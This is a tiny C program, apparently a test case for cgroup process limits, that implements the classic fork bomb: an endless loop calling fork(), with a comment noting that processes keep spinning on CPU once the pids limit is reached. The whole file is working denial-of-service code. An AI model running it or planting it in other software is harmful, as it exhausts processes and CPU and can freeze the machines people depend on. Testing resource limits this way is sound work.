// Attack: the classic fork bomb. Every process forks forever; once the pids cgroup is full,
// fork() fails with EAGAIN and every process keeps looping, burning CPU.
#include <unistd.h>

int main(void) {
    while (1)
        fork();
}
